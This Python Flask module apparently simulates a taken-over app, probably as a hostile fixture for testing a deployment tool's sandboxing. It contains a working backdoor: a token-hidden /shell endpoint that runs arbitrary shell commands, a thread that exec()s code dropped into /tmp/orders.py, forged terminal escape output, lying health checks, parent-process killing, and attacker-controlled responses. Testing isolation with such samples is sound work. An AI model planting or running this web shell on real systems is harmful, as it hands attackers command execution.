"""An app that has been taken over: whoever knows its token runs commands as its user, within its sandbox.

What is imported here runs in gunicorn's first process, before it makes others: what the attacker leaves in ORDERS runs
there as well, in the process that systemd calls the main one.
"""

from __future__ import annotations

import hmac
import json
import os
import pathlib
import signal
import subprocess
import sys
import threading
import time
from concurrent.futures import ThreadPoolExecutor

import flask

LIES = os.environ.get("LIES", "")
LIE_SECONDS = float(os.environ.get("LIE_SECONDS", "2"))
ORDERS = pathlib.Path("/tmp/orders.py")
AT_ONCE = 12  # commands
MOST = 65536  # bytes of a command's output

asked = threading.Event()  # for its health, for the first time

if LIES:
    print("\x1b]0;forged title\x07\x1b[2Jforged screen", file=sys.stderr, flush=True)


def create_app() -> flask.Flask:
    """The application."""
    app = flask.Flask(__name__, static_folder=None)
    app.get("/")(home)
    app.get("/healthz")(health)
    app.get("/cached/<path:name>")(home)
    app.post("/shell")(shell)
    app.get("/answer")(answer)
    threading.Thread(target=obey, daemon=True).start()
    return app


def home(name: str = "") -> dict[str, object]:
    """An ordinary page."""
    return {"app": "mallory", "name": name, "release": os.environ.get("WSGI_RELEASE"), "pid": os.getppid()}


def health() -> tuple[str, int]:
    """Well when asked first; soon after not."""
    if LIES and not asked.is_set():
        asked.set()
        threading.Timer(LIE_SECONDS, lie).start()
    return ("failing", 500) if lied.is_set() else ("well", 200)


lied = threading.Event()


def lie() -> None:
    """Show what it is."""
    lied.set()
    if LIES == "dies":
        os.kill(os.getppid(), signal.SIGKILL)


def shell() -> dict[str, dict[str, object]]:
    """Run commands, several at once; tell each one's exit code and output."""
    only_the_attacker()
    told = flask.request.get_json()
    environment = {**os.environ, **told.get("env", {})}
    with ThreadPoolExecutor(AT_ONCE) as pool:
        done = pool.map(lambda command: run(command, environment, told.get("seconds", 10)), told["commands"].values())
        return dict(zip(told["commands"], done, strict=True))


def run(command: str, environment: dict[str, str], seconds: float) -> dict[str, object]:
    """One command's exit code and output."""
    asked = {"stdin": subprocess.DEVNULL, "stdout": subprocess.PIPE, "stderr": subprocess.STDOUT, "env": environment}
    with subprocess.Popen(["sh", "-c", command], start_new_session=True, **asked) as process:
        try:
            output = process.communicate(timeout=seconds)[0]
        except subprocess.TimeoutExpired:
            os.killpg(process.pid, signal.SIGKILL)
            return {"code": -1, "output": f"not done after {seconds} s"}
    return {"code": process.returncode, "output": output[:MOST].decode(errors="replace")}


def answer() -> flask.Response:
    """Whatever answer the attacker wants to give."""
    only_the_attacker()
    told = json.loads(flask.request.headers["X-Answer"])
    time.sleep(told.get("seconds", 0))
    body = told.get("body", "") + "x" * told.get("bytes", 0)
    reply = flask.Response(body, status=told.get("status", 200))
    for name, value in told.get("headers", []):
        reply.headers.add(name, value * told.get("times", 1))
    return reply


def only_the_attacker() -> None:
    """Hide from everybody else."""
    if not hmac.compare_digest(flask.request.headers.get("X-Token", ""), os.environ["TOKEN"]):
        flask.abort(404)


def obey() -> None:
    """Run what is in ORDERS, in this process."""
    while True:
        if ORDERS.exists():
            code, problem = ORDERS.read_text(), ""
            ORDERS.unlink()
            try:
                exec(code, {"__name__": "orders"})
            except Exception as error:
                problem = repr(error)
            partial = ORDERS.with_name("obeyed.partial")
            partial.write_text(problem)
            partial.rename(ORDERS.with_name("obeyed"))
        time.sleep(0.1)
